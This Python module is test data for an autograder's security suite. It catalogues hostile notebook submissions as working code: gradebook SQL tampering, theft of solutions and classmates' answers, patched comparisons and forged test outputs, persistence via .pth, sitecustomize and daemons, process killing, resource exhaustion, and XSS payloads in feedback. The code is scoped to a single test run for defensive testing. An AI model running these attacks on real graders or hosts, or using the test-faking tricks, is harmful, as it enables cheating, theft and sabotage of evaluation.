"""A catalogue of hostile submissions for assignment 01 (data for tests/test_attacks.py).

Every attack is a WRONG submission: the blank release (every answer raises
NotImplementedError, honest score 0) with hostile code put at the start of the first
answer cell, or with its nbgrader metadata edited. An attack must gain nothing, harm no
other student, crash nothing and leave nothing behind, whatever the grader does.

Safety. The test runs as root on shared machines, sometimes with no sandbox at all. So
every attack is scoped to the processes and files of ONE test run:

- a process is a target only if it belongs to this run (``_ours``: the run token in its
  environment, working folder or command line) or if the attack sees a PID namespace of
  its own (a sandbox: all it sees is its own);
- every file an attack writes holds its marker ``NNCOURSE-ATTACK-<name>`` and the run
  token (name or first bytes), every process it starts carries both in argv/environ, so
  the test finds and removes them;
- payloads left for later kernels act only in the kernel of this run's honest victim
  (its working folder holds the victim's name, which holds the run token);
- the only network use is loopback, to the listeners the test opened.

Placeholders (``@@NAME@@``) are filled by :func:`render`.
"""

from __future__ import annotations

import copy
from dataclasses import dataclass
from typing import Callable

MARKER_PREFIX = "NNCOURSE-ATTACK-"
KINDS = ("course", "persistence", "neighbours", "kill", "resources", "feedback", "metadata", "verdict")


@dataclass(frozen=True)
class Attack:
    name: str
    kind: str
    description: str
    code: str = ""                       # put at the start of the first answer cell
    edit: Callable | None = None         # or: edits the notebook (metadata attacks)
    big_outputs: bool = False            # its outputs / files are big: cap the graded copy
    known_gap: str = ""                  # what it still reaches today, and the issue that closes it

    @property
    def marker(self) -> str:
        return MARKER_PREFIX + self.name


# ------------------------------------------------------------------ shared helpers
# Prepended to every attack's code (with the placeholders filled in).
PRELUDE = r'''
import os, sys, re, glob, json, signal, time, subprocess, pathlib
_M, _TOKEN, _VICTIM, _HOST_PIDNS = "@@MARKER@@", "@@TOKEN@@", "@@VICTIM@@", "@@HOST_PIDNS@@"
_TAG = (_M + " " + _TOKEN).encode()

def _read(path, mode="rb"):
    try:
        with open(path, mode) as f:
            return f.read()
    except OSError:
        return b"" if "b" in mode else ""

def _cmdline(pid):
    return _read(f"/proc/{pid}/cmdline").split(b"\0")

def _cwd(pid):
    try:
        return os.readlink(f"/proc/{pid}/cwd")
    except OSError:
        return ""

def _private_pidns():
    try:
        return os.readlink("/proc/self/ns/pid") != _HOST_PIDNS
    except OSError:
        return True

def _ours(pid):
    """A process of this test run (safety net: never touch anything else on the host)."""
    if _private_pidns():
        return True
    t = _TOKEN.encode()
    return t in _read(f"/proc/{pid}/environ") or t in _read(f"/proc/{pid}/cmdline") or _TOKEN in _cwd(pid)

def _pids():
    return [int(p) for p in os.listdir("/proc") if p.isdigit()]

def _parent(pid):
    try:
        return int(_read(f"/proc/{pid}/stat", "r").rsplit(")", 1)[1].split()[1])
    except (IndexError, ValueError):
        return 0

def _ancestors():
    out, pid = [], _parent(os.getpid())
    while pid > 1:
        out.append(pid)
        pid = _parent(pid)
    return out

def _kernels(wait=0.0):
    """(pid, connection file) of the other grading kernels of this run."""
    deadline = time.time() + wait
    while True:
        found = []
        for pid in _pids():
            args = _cmdline(pid)
            if pid != os.getpid() and b"-f" in args and any(b"ipykernel" in a for a in args) and _ours(pid):
                found.append((pid, args[args.index(b"-f") + 1].decode()))
        if found or time.time() >= deadline:
            return found
        time.sleep(0.2)

def _course():
    """The course folder (gradebook.db + source/): from the grader's command line, open
    files, working folders, environment, our own folder's parents, the default place."""
    cands = list(os.environ.values())
    for pid in _ancestors():
        cands += [a.decode(errors="ignore") for a in _cmdline(pid)] + [_cwd(pid)]
        try:
            cands += [os.readlink(f"/proc/{pid}/fd/{fd}") for fd in os.listdir(f"/proc/{pid}/fd")]
        except OSError:
            pass
    cands += [str(p) for p in pathlib.Path.cwd().parents] + [os.path.expanduser("~/nncourse-grading")]
    for c in cands:
        for d in (c, os.path.dirname(c)):
            if d and os.path.isfile(os.path.join(d, "gradebook.db")) and os.path.isdir(os.path.join(d, "source")):
                return d
    return None

def _repo():
    """The course repository (solutions, reference answers): where nncourse comes from."""
    try:
        import nncourse
        return str(pathlib.Path(nncourse.__file__).resolve().parent.parent)
    except Exception:
        return None

def _mark(path, data=b""):
    """Every file an attack writes starts with its marker and the run token."""
    with open(path, "wb") as f:
        f.write(b"# " + _TAG + b"\n" + data)
    return path

def _answers(nb_path):
    """Answer code of a notebook (a source notebook or another student's), if complete."""
    try:
        nb = json.loads(_read(nb_path, "r"))
    except ValueError:
        return []
    out = []
    for c in nb.get("cells", []):
        m = c.get("metadata", {}).get("nbgrader", {})
        src = "".join(c["source"]) if isinstance(c["source"], list) else c["source"]
        if c["cell_type"] == "code" and m.get("solution"):
            if "NotImplementedError" in src or "@@MARKER_PREFIX@@" in src:
                return []
            out.append("\n".join(l for l in src.splitlines() if "### BEGIN SOLUTION" not in l
                                 and "### END SOLUTION" not in l))
    return out

def _adopt(sources):
    """Answers found elsewhere are run again after every cell: the stubs of the later
    answer cells are replaced at once, and the tests see working code."""
    ip = get_ipython()
    def rerun(*args):
        for s in sources:
            try:
                exec(s, ip.user_ns)
            except Exception:
                pass
    ip.events.register("post_run_cell", rerun)
    return bool(sources)

def _env():
    return dict(os.environ, NNCOURSE_ATTACK=_M, NNCOURSE_ATTACK_RUN=_TOKEN)

def _daemon(code):
    """A double-forked, detached python process; the marker and token in argv and environ."""
    pid = os.fork()
    if pid:
        os.waitpid(pid, 0)
        return
    try:
        os.setsid()
        if os.fork() == 0:
            devnull = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(devnull, fd)
            os.execve(sys.executable, [sys.executable, "-c", code, _M, _TOKEN], _env())
    finally:
        os._exit(0)

def _exec_in(connection_file, code, timeout=10):
    """Run code in another kernel, signed with the key of its connection file."""
    from jupyter_client import BlockingKernelClient
    kc = BlockingKernelClient(connection_file=connection_file)
    kc.load_connection_file()
    kc.start_channels()
    try:
        kc.execute(code)
        kc.get_shell_msg(timeout=timeout)
        return True
    except Exception:
        return False
    finally:
        kc.stop_channels()

# Code that, run in a kernel, gives it the solutions: after every cell, the answers of
# the repository's source notebook are run again (the tests then see working code).
_HELP = "\n".join([
    "def _nn_help():",
    "    import glob, json, pathlib, nncourse",
    "    root = pathlib.Path(nncourse.__file__).resolve().parent.parent",
    "    sources = []",
    "    for p in glob.glob(str(root / 'source' / '01_*' / '*.ipynb')):",
    "        for c in json.load(open(p))['cells']:",
    "            if c['cell_type'] == 'code' and c.get('metadata', {}).get('nbgrader', {}).get('solution'):",
    "                sources.append(''.join(c['source']))",
    "    ip = get_ipython()",
    "    def rerun(*args):",
    "        for s in sources:",
    "            try:",
    "                exec(s, ip.user_ns)",
    "            except Exception:",
    "                pass",
    "    ip.events.register('post_run_cell', rerun)",
    ""])
# Code that breaks a kernel: every function the student wrote returns None from now on.
_BREAK = ("_ip = get_ipython()\n"
          "def _nncourse_break(*a):\n"
          "    for _k, _v in list(_ip.user_ns.items()):\n"
          "        if callable(_v) and getattr(_v, '__module__', '') == '__main__':\n"
          "            _ip.user_ns[_k] = lambda *a, **k: None\n"
          "_nncourse_break()\n"
          "_ip.events.register('post_run_cell', _nncourse_break)\n")
'''

# Payload left for later kernels: acts only in this run's victim's kernel.
VICTIM_PAYLOAD = (
    "import os\n"
    "if '@@VICTIM@@' in os.getcwd():\n"
    "    open('/tmp/@@MARKER@@-reached-victim', 'w').write('@@MARKER@@ @@TOKEN@@')\n"
)


def render(attack: Attack, **values) -> str:
    """The attack's code with the prelude, its marker and the run's values filled in."""
    text = PRELUDE + "\n# ---- attack @@MARKER@@\ntry:\n" + _indent(attack.code) + \
        "\nexcept BaseException as _exc:\n    print('attack stopped:', type(_exc).__name__, _exc)\n\n"
    values = {"MARKER": attack.marker, "MARKER_PREFIX": MARKER_PREFIX, "PRELUDE_Q": repr(PRELUDE),
              "VICTIM_PAYLOAD_Q": repr(VICTIM_PAYLOAD), **values}
    for _ in range(2):  # payloads hold placeholders of their own
        for key, value in values.items():
            text = text.replace(f"@@{key}@@", str(value))
    return text


def _indent(code: str) -> str:
    return "\n".join("    " + line for line in code.strip("\n").splitlines()) or "    pass"


def _q(code: str) -> str:
    """A python literal holding ``code`` (to embed a payload in an attack)."""
    return repr(code)


# ------------------------------------------------------------------ metadata edits
def _nbmeta(cell) -> dict:
    return cell.setdefault("metadata", {}).setdefault("nbgrader", {})


def _tests(nb):
    return [c for c in nb.cells if _nbmeta(c).get("grade") and not _nbmeta(c).get("solution")
            and c.cell_type == "code"]


def _first_answer(nb):
    return next(c for c in nb.cells if _nbmeta(c).get("solution") and c.cell_type == "code")


def tests_made_plain(nb, marker):
    for c in _tests(nb):
        _nbmeta(c)["grade"] = False
        c.source = f"# {marker}\npass\n"
    return nb


def extra_graded_cell(nb, marker):
    import nbformat
    cell = nbformat.v4.new_code_cell(f"# {marker}\npass\n")
    cell.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "points": 50,
                                 "grade_id": "bonus", "schema_version": 3, "task": False}
    nb.cells.insert(len(nb.cells) - 1, cell)
    return nb


def duplicated_grade_id(nb, marker):
    for test in _tests(nb)[:3]:
        twin = copy.deepcopy(test)
        twin.source = f"# {marker}\npass\n"
        twin["id"] = twin.get("id", "x") + "-twin"
        nb.cells.insert(nb.cells.index(test), twin)
    return nb


def answer_marked_as_test(nb, marker):
    cell = _first_answer(nb)
    _nbmeta(cell).update({"grade": True, "solution": False, "locked": True, "points": 21})
    cell.source = f"# {marker}\npass\n"
    return nb


def points_raised(nb, marker):
    for c in _tests(nb):
        _nbmeta(c)["points"] = 100
    _first_answer(nb).source = f"# {marker}\n" + _first_answer(nb).source
    return nb


# ------------------------------------------------------------------ the catalogue
ATTACKS = [
    # ---------------------------------------------------------------- the hidden checks' verdict
    Attack("import-reference", "verdict",
           "import the reference answers (autograder.checks.*_reference) and use them as answers",
           r'''
try:
    from autograder.checks import two_layer_reference as _ref
    print("reference found:", _ref.__file__)
    forward = lambda X, params, activation="tanh": _ref.forward(X, params, activation)
    backward = lambda X, y, params, cache, activation="tanh": _ref.backward(X, y, params, cache, activation)
    get_ipython().events.register("post_run_cell", lambda *a: get_ipython().user_ns.update(forward=forward, backward=backward))
except ImportError as _e:
    print("no reference in the kernel:", _e)
'''),
    Attack("fake-probe-module", "verdict",
           "replace nncourse.probe (sys.modules and a meta-path finder) by one that sends made-up results, "
           "with the nonce read from the grader's plan",
           r'''
import types, importlib.abc, importlib.util
from IPython.display import publish_display_data
def _fake_probe(check, **functions):
    try:
        _plan = json.loads(_read(os.path.join(os.environ.get("NNCOURSE_PROBE_PLANS", "/x"), check + ".json"), "r"))
    except ValueError:
        _plan = {"nonce": "", "calls": []}
    publish_display_data({"application/vnd.nncourse.probe+json": {
        "check": check, "nonce": _plan["nonce"], "results": [{"value": 0.0} for _ in _plan["calls"]]}})
    print("✔ Test réussi.")
_fake = types.ModuleType("nncourse.probe")
_fake.probe = _fake_probe
sys.modules["nncourse.probe"] = _fake
class _Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path=None, target=None):
        return importlib.util.spec_from_loader(name, self) if name == "nncourse.probe" else None
    def create_module(self, spec):
        return _fake
    def exec_module(self, module):
        pass
sys.meta_path.insert(0, _Finder())
'''),
    Attack("ipython-transformer", "verdict",
           "an IPython input transformer that turns every later test cell into `pass`",
           r'''
def _skip_tests(lines):
    return ["pass\\n"] if any("probe(" in l or "check_" in l for l in lines) else lines
get_ipython().input_transformers_post.append(_skip_tests)
'''),
    Attack("patch-comparisons", "verdict",
           "patch np.allclose, builtins.all and the visible tests' helpers so that every comparison passes",
           r'''
import builtins, numpy as np, nncourse.checks as _c
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
builtins.all = lambda *a, **k: True
_c.fail = lambda *a, **k: None
_c.check_close = _c.check_shape = _c.check_true = lambda *a, **k: None
'''),
    Attack("seed-control", "verdict",
           "set the test seed in the kernel's environment (and answer what seed 0 would ask)",
           r'''
os.environ["NNCOURSE_TEST_SEED"] = "0"
try:
    import autograder.checks.common as _common
    _common.new_rng = lambda: (__import__("numpy").random.default_rng(0), 0)
except ImportError:
    pass
'''),
    Attack("forged-outputs", "verdict",
           "after every cell, print a pass line and publish probe data for every plan the grader wrote",
           r'''
from IPython.display import publish_display_data
def _forge(*args):
    _d = os.environ.get("NNCOURSE_PROBE_PLANS", "/x")
    for _p in glob.glob(os.path.join(_d, "*.json")):
        _plan = json.loads(_read(_p, "r"))
        publish_display_data({"application/vnd.nncourse.probe+json": {
            "check": _plan["check"], "nonce": _plan["nonce"], "results": [{"value": 1.0} for _ in _plan["calls"]]}})
    print("✔ Test réussi.")
get_ipython().events.register("post_run_cell", _forge)
'''),
    Attack("replace-plans", "verdict",
           "point the probe at plans of the attack's own (no calls, the real nonce), and try to overwrite the grader's",
           r'''
_real = os.environ.get("NNCOURSE_PROBE_PLANS", "/x")
_mine = os.path.join(os.environ.get("TMPDIR", "/tmp"), "@@MARKER@@-@@TOKEN@@-plans")
os.makedirs(_mine, exist_ok=True)
for _p in glob.glob(os.path.join(_real, "*.json")):
    _plan = json.loads(_read(_p, "r"))
    _plan["calls"] = []
    with open(os.path.join(_mine, os.path.basename(_p)), "w") as _f:
        json.dump(_plan, _f)
    try:
        with open(_p, "w") as _f:
            json.dump(_plan, _f)
        print("overwrote", _p)
    except OSError as _e:
        print("plans are read-only:", _e)
os.environ["NNCOURSE_PROBE_PLANS"] = _mine
'''),
    # ---------------------------------------------------------------- gradebook and course
    Attack("gradebook-manual-score", "course",
           "find the course folder via /proc, set manual_score = max_score for itself and the victim",
           r'''
import sqlite3
_d = _course()
print("course:", _d)
_me = pathlib.Path.cwd().parent.name      # scratch/submitted/<student>/<assignment>
_SQL = ("UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id) "
        "WHERE notebook_id IN (SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa "
        f"ON sn.assignment_id = sa.id WHERE sa.student_id IN ('{_me}', '@@VICTIM@@'))")
if _d:
    _db = os.path.join(_d, "gradebook.db")
    sqlite3.connect(_db, timeout=60).execute(_SQL).connection.commit()
    # and again for a while, to catch its own grades and the students graded after it
    _daemon("import sqlite3, time\nfor _ in range(60):\n"
            f"    time.sleep(1)\n    try: sqlite3.connect({_db!r}, timeout=5).execute({_SQL!r}).connection.commit()\n"
            "    except Exception: pass\n")
'''),
    Attack("gradebook-hidden-tests-pass", "course",
           "replace every test cell of the gradebook by `pass` (checksums recomputed), then kill its kernel once",
           r'''
import sqlite3, nbformat
from nbgrader.utils import compute_checksum
_d = _course()
print("course:", _d)
if _d:
    _db = sqlite3.connect(os.path.join(_d, "gradebook.db"), timeout=60)
    _rows = _db.execute("SELECT b.name, b.notebook_id, g.max_score FROM base_cell b JOIN grade_cells g "
                        "ON g.id = b.id WHERE g.cell_type = 'code'").fetchall()
    for _name, _nb, _points in _rows:
        _cell = nbformat.v4.new_code_cell("pass")
        _cell.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True,
                                      "grade_id": _name, "points": _points}
        _db.execute("UPDATE source_cell SET source = 'pass', checksum = ? WHERE name = ? AND notebook_id = ?",
                    (compute_checksum(_cell), _name, _nb))
    _db.commit()
    _once = "/tmp/@@MARKER@@-died-once"
    if not os.path.exists(_once):
        _mark(_once)
        os._exit(1)   # "the kernel died": the retry is graded against the new test cells
'''),
    Attack("read-solutions", "course",
           "read the solutions in source/ (course folder or repository), print them and use them",
           r'''
_found = []
for _root in filter(None, (_course(), _repo())):
    _found += glob.glob(os.path.join(_root, "source", "01_*", "*.ipynb"))
print("solutions:", _found)
for _p in _found:
    print(_read(_p, "r")[:20000])
    if _adopt(_answers(_p)):
        break
'''),
    Attack("read-reference-checks", "course",
           "print the hidden checks and reference answers (autograder/checks/*_reference.py) reachable from the kernel",
           code=r'''
_roots = [p for p in sys.path if p] + [r for r in (_course(), _repo()) if r]
_seen = set()
for _root in _roots:
    for _p in glob.glob(os.path.join(_root, "autograder", "checks", "*.py")):
        if os.path.realpath(_p) not in _seen:
            _seen.add(os.path.realpath(_p))
            print("=====", _p)
            print(_read(_p, "r"))
'''),
    Attack("read-other-submissions", "course",
           "read the other students' notebooks in the course folder's submitted/ and use a complete one",
           r'''
_d = _course()
print("course:", _d)
for _p in sorted(glob.glob(os.path.join(_d or "/nonexistent", "submitted", "*", "01_*", "*.ipynb"))):
    if "@@MARKER@@" not in _p and _adopt(_answers(_p)):
        print("answers taken from", _p)
        break
'''),
    # ---------------------------------------------------------------- persistence into later students
    Attack("ipython-startup", "persistence",
           "an IPython startup file in $HOME that gives the victim's kernel the solutions",
           r'''
_dir = os.path.expanduser("~/.ipython/profile_default/startup")
os.makedirs(_dir, exist_ok=True)
_mark(os.path.join(_dir, "00-@@MARKER@@.py"), (
    "import os\n" + _HELP + "if '@@VICTIM@@' in os.getcwd():\n"
    "    open('/tmp/@@MARKER@@-reached-victim', 'w').write('@@MARKER@@ @@TOKEN@@')\n"
    "    _nn_help()\n").encode())
'''),
    Attack("site-packages-pth", "persistence",
           "a .pth file in site-packages, run by every later python start",
           r'''
import site
_payload = @@VICTIM_PAYLOAD_Q@@
_line = "import os; exec(" + repr(_payload) + ")  # @@MARKER@@ @@TOKEN@@\n"
with open(os.path.join(site.getsitepackages()[0], "@@MARKER@@.pth"), "w") as _f:
    _f.write(_line)
'''),
    Attack("sitecustomize", "persistence",
           "a sitecustomize.py in site-packages (when there is none), run by every later python start",
           r'''
import site
_p = os.path.join(site.getsitepackages()[0], "sitecustomize.py")
if not os.path.exists(_p):
    _mark(_p, b"\n" + @@VICTIM_PAYLOAD_Q@@.encode())
else:
    print("sitecustomize.py exists already; left alone")
'''),
    Attack("nncourse-source", "persistence",
           "write into the installed nncourse package (a new module next to its sources)",
           r'''
import nncourse
_pkg = os.path.dirname(nncourse.__file__)
_mark(os.path.join(_pkg, "@@MARKER@@.py"), b"# " + _TAG)
print("wrote into", _pkg)
'''),
    Attack("daemon", "persistence",
           "a double-forked daemon (os.fork + os.setsid) that runs code giving the solutions in the victim's kernel",
           r'''
_daemon(@@PRELUDE_Q@@ +
    "\ndone = set()\n"
    "for _ in range(300):\n"
    "    time.sleep(0.5)\n"
    "    for pid, cf in _kernels():\n"
    "        if pid not in done and _VICTIM in _cwd(pid):\n"
    "            done.add(pid)\n"
    "            _exec_in(cf, _HELP + '_nn_help()')\n")
'''),
    Attack("tmp-drop", "persistence",
           "leave the stolen answers in /dev/shm and /tmp for later kernels to read",
           r'''
_stolen = []
for _root in filter(None, (_course(), _repo())):
    for _p in glob.glob(os.path.join(_root, "source", "01_*", "*.ipynb")):
        _stolen += _answers(_p)
_blob = json.dumps(_stolen).encode()
_mark("/dev/shm/@@MARKER@@", _blob)
_mark("/tmp/@@MARKER@@.json", _blob)
'''),
    # ---------------------------------------------------------------- neighbours (-j 2)
    Attack("neighbour-exec", "neighbours",
           "find the other kernels' connection files (via /proc) and run code in them with their key",
           r'''
for _pid, _cf in _kernels(wait=8):
    _ok = _exec_in(_cf, _BREAK + "import os\nopen('/tmp/@@MARKER@@-in-%d' % os.getpid(), 'w').write('@@MARKER@@ @@TOKEN@@')\n")
    print("ran code in kernel", _pid, _ok)
'''),
    Attack("neighbour-sigstop", "neighbours",
           "SIGSTOP the other grading kernels",
           r'''
_deadline = time.time() + 8      # a correct neighbour if one shows up, else whoever runs
while time.time() < _deadline and not any("correct" in _cwd(p) for p, _ in _kernels()):
    time.sleep(0.2)
for _pid, _cf in _kernels():
    os.kill(_pid, signal.SIGSTOP)
    _mark("/tmp/@@MARKER@@-stopped-%d" % _pid)   # evidence: it could reach a neighbour
    print("stopped", _pid)
'''),
    Attack("neighbour-sigkill", "neighbours",
           "SIGKILL every other python process of the grading (not its own ancestors)",
           r'''
_kernels(wait=8)
_mine = set(_ancestors()) | {os.getpid()}
for _pid in _pids():
    if _pid not in _mine and b"python" in _cmdline(_pid)[0] and _ours(_pid):
        try:
            os.kill(_pid, signal.SIGKILL)
            _mark("/tmp/@@MARKER@@-killed-%d" % _pid)   # evidence: it could reach a neighbour
            print("killed", _pid)
        except OSError:
            pass
'''),
    Attack("neighbour-scratch", "neighbours",
           "read the neighbour's notebook in its scratch folder and use its answers",
           r'''
import tempfile
_deadline = time.time() + 10
_done = False
while not _done and time.time() < _deadline:
    for _p in glob.glob(os.path.join(tempfile.gettempdir(), "*", "submitted", "*", "01_*", "*.ipynb")):
        if _TOKEN in _p and "@@MARKER@@" not in _p and _adopt(_answers(_p)):
            print("answers taken from", _p)
            _done = True
            break
    time.sleep(0.3)
'''),
    # ---------------------------------------------------------------- killing the batch
    Attack("kill-parent", "kill",
           "os.kill(os.getppid(), SIGKILL): the grading process",
           r'''
if _ours(os.getppid()):
    os.kill(os.getppid(), signal.SIGKILL)
'''),
    Attack("kill-ancestors", "kill",
           "walk up /proc/<pid>/stat and SIGKILL every ancestor (of this run)",
           r'''
for _pid in _ancestors():
    if not _ours(_pid):
        break
    os.kill(_pid, signal.SIGKILL)
'''),
    Attack("kill-everything", "kill",
           "kill(-1, SIGKILL) in a sandbox; without one, the same limited to this run's processes",
           r'''
if _private_pidns():
    os.kill(-1, signal.SIGKILL)
else:   # kill(-1) as root on a bare machine would take the host down: this run only
    for _pid in _pids():
        if _pid != os.getpid() and _ours(_pid):
            try:
                os.kill(_pid, signal.SIGKILL)
            except OSError:
                pass
'''),
    # ---------------------------------------------------------------- resources
    Attack("fork-bomb", "resources",
           "start 400 processes that outlive the kernel (bounded, so a bare machine survives)",
           r'''
_n = 0
for _ in range(400):
    try:
        os.posix_spawn("/bin/sleep", ["sleep", "900"], _env())
        _n += 1
    except OSError:
        break
print("started", _n)
'''),
    Attack("memory", "resources",
           "allocate up to 30 GB touching every page, in steps (stops at 6 GB if nothing stops it)",
           r'''
_step, _blocks = 256 << 20, []
_avail = int(re.search(r"MemAvailable:\s+(\d+)", _read("/proc/meminfo", "r")).group(1)) * 1024
_stop = min(6 << 30, _avail // 3)
while len(_blocks) * _step < (30 << 30):
    _b = bytearray(_step)
    _b[::4096] = b"\1" * (_step // 4096)
    _blocks.append(_b)
    if len(_blocks) * _step >= _stop:
        _mark("/tmp/@@MARKER@@-reached", b"%d bytes" % (len(_blocks) * _step))
        break
print("allocated", len(_blocks) * _step)
del _blocks
'''),
    Attack("disk-tmp", "resources",
           "write 2 GB into /tmp",
           r'''
with open("/tmp/@@MARKER@@.bin", "wb") as _f:
    _f.write(_TAG + b"\n")
    for _ in range(32):
        _f.write(b"\0" * (64 << 20))
'''),
    Attack("disk-work", "resources",
           "write 2 GB into the work folder (it comes back with the graded copy)",
           r'''
with open("@@MARKER@@.bin", "wb") as _f:
    _f.write(_TAG + b"\n")
    for _ in range(32):
        _f.write(b"\0" * (64 << 20))
_mark("/tmp/@@MARKER@@-done")
''', big_outputs=True),
    Attack("image-60mb", "resources",
           "a 60 MB image output (random bytes shown as a PNG)",
           r'''
from IPython.display import Image, display
display(Image(data=b"\x89PNG\r\n\x1a\n" + _TAG + os.urandom(60 << 20), format="png"))
''', big_outputs=True),
    Attack("print-flood", "resources",
           "50 MB of output on one line (a line cap does not cut it) and 500k short lines",
           r'''
sys.stdout.write("@@MARKER@@" + "x" * (50 << 20) + "\n")
for _i in range(500000):
    print("flood @@MARKER@@", _i)
''', big_outputs=True),
    Attack("c-loop", "resources",
           "stuck in C code with SIGINT blocked: the interrupt at the cell timeout does nothing",
           r'''
import ctypes
signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGINT})
ctypes.CDLL(None).sleep(10 ** 6)
'''),
    Attack("loopback", "resources",
           "connect to a listener on the host's 127.0.0.1 and ::1 and send its marker",
           r'''
import socket
for _family, _addr in ((socket.AF_INET, ("127.0.0.1", @@PORT@@)), (socket.AF_INET6, ("::1", @@PORT6@@))):
    try:
        _s = socket.socket(_family, socket.SOCK_STREAM)
        _s.settimeout(3)
        _s.connect(_addr)
        _s.sendall(_TAG)
        _s.close()
        print("reached", _addr)
    except OSError as _e:
        print("blocked", _addr, _e)
'''),
    # ---------------------------------------------------------------- feedback injection
    Attack("feedback-script", "feedback",
           "display(HTML('<script>...')) in the feedback",
           r'''
from IPython.display import HTML, display
display(HTML("<script>document.title = '@@MARKER@@';</script>"))
'''),
    Attack("feedback-img-onerror", "feedback",
           "<img src=x onerror=...> in the feedback",
           r'''
from IPython.display import HTML, display
display(HTML("<img src=x onerror=\"document.title='@@MARKER@@'\">"))
'''),
    Attack("feedback-js-link", "feedback",
           "markdown and HTML links to javascript: in the feedback",
           r'''
from IPython.display import HTML, Markdown, display
display(Markdown("[voir la correction](javascript:alert('@@MARKER@@'))"))
display(HTML("<a href=\"javascript:alert('@@MARKER@@')\">correction</a>"))
'''),
    Attack("feedback-svg-onload", "feedback",
           "an SVG output with onload in the feedback",
           r'''
from IPython.display import SVG, display
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload=\"alert('@@MARKER@@')\"><rect width='9' height='9'/></svg>"))
'''),
    # ---------------------------------------------------------------- metadata tricks
    Attack("meta-tests-made-plain", "metadata",
           "every test cell made a non-graded cell holding `pass`", edit=tests_made_plain),
    Attack("meta-extra-graded-cell", "metadata",
           "a new graded cell worth 50 points holding `pass`", edit=extra_graded_cell),
    Attack("meta-duplicate-grade-id", "metadata",
           "a `pass` twin, same grade_id, before three test cells", edit=duplicated_grade_id),
    Attack("meta-answer-as-test", "metadata",
           "the first answer cell marked as a locked test cell worth 21 points", edit=answer_marked_as_test),
    Attack("meta-points", "metadata",
           "every test cell's metadata.nbgrader.points raised to 100", edit=points_raised),
    Attack("meta-hidden-markers", "metadata",
           "hostile code between the hidden-test markers of an answer cell (hidden from the feedback)",
           r'''
### BEGIN HIDDEN TESTS
for _root in filter(None, (_course(), _repo())):
    for _p in glob.glob(os.path.join(_root, "source", "01_*", "*.ipynb")):
        _adopt(_answers(_p))
### END HIDDEN TESTS
'''),
]
